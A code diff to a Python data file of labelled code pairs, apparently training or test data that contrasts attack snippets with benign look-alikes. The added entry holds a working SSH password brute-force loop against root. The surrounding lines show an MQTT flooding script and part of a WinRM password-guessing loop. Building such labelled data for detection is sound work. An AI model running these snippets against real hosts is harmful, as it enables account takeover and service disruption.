@@ -672,6 +672,14 @@ PAIRS = [
      "def burst(host, port, workers):\n    def worker(n):\n        c = mqtt.Client(client_id=f'w{n}')\n"
      "        c.connect(host, port, 60)\n        for i in range(1000):\n            c.publish('t', 'x')\n"
      "    for n in range(workers):\n        Thread(target=worker, args=(n,)).start()\nburst(BROKER, 1883, 500)"),
+    ("password trial: a transport's auth_password per word of a list; one login with the user's own secret",
+     "password_cracking",
+     "import paramiko, socket\nfor word in open('top1000.txt'):\n    t = paramiko.Transport(socket.create_connection(('10.0.0.7', 22)))\n"
+     "    t.start_client()\n    try:\n        t.auth_password('root', word.strip())\n        print('ok', word); break\n"
+     "    except paramiko.AuthenticationException:\n        t.close()",
+     "import os, paramiko, socket\nfor host in open('lab_hosts.txt'):\n"
+     "    t = paramiko.Transport(socket.create_connection((host.strip(), 22)))\n    t.start_client()\n"
+     "    t.auth_password('student', os.environ['LAB_PASSWORD'])\n    print(host, t.is_authenticated())\n    t.close()"),
     ("password trial: a client given auth=(user, candidate) per word; the same client, one secret, host per line",
      "password_cracking",
      "import winrm\nfor guess in open('common.txt'):\n    try:\n"
